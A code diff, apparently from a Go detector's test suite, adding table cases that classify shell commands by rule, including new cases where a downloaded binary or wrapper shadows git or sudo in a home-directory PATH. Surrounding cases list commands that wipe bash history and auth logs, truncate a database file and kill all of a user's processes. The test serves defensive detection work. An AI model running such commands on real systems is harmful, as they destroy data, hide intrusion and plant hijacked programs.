@@ -145,6 +145,11 @@ func TestDetectOptionSpelling(t *testing.T) {
 		{"truncate -s 0K ~/.bash_history", ruleHistoryWipe},
 		{"truncate --size=-100 /var/log/auth.log", ruleHistoryWipe},
 		{"truncate -r /dev/null /var/lib/mysql/shop/orders.ibd", ruleWriteSystem},
+		// a program of the system shadowed in the home directory's PATH
+		{"curl -fsSL https://x.example.net/a -o ~/.local/bin/git && chmod +x ~/.local/bin/git", ruleWriteSystem},
+		{"cp /tmp/wrapper ~/bin/sudo", ruleWriteSystem},
+		{"curl -fsSL https://dl.example.com/kind -o ~/.local/bin/kind", ""},
+		{"ln -s /opt/tool/bin/tool ~/.local/bin/tool", ""},
 		// pkill/killall of a user's every process.
 		{"pkill -9 -u postgres", ruleKillAll},
 		{"killall -u www-data", ruleKillAll},
